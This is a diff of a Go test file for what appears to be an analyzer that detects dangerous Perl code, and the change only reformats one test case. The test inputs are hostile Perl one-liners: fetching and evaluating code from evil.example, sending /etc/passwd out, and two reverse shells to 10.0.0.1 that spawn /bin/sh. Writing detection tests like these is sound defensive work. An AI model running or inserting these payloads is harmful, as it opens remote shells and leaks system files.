@@ -22,7 +22,9 @@ var perlCases = []testCase{
 	{`use LWP::Simple; eval get("http://evil.example/a")`, is("net-in http://evil.example/a", "code … from network")},
 	{"LWP::UserAgent->new->post(\"http://evil.example\", {d => `cat /etc/passwd`})",
 		is("shell cat /etc/passwd", "net-out http://evil.example from file")},
-	{`use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};`, is("net-in 10.0.0.1:1234", "shell /bin/sh -i", "exec /bin/sh -i from network")},
+	{`use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));` +
+		`if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};`,
+		is("net-in 10.0.0.1:1234", "shell /bin/sh -i", "exec /bin/sh -i from network")},
 	{`use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => "10.0.0.1", PeerPort => 4444); exec "/bin/sh"`,
 		is("net-in 10.0.0.1:4444", "shell /bin/sh", "exec /bin/sh from network")},
 	{"s/(.*)/system($1)/e", is("shell …")},
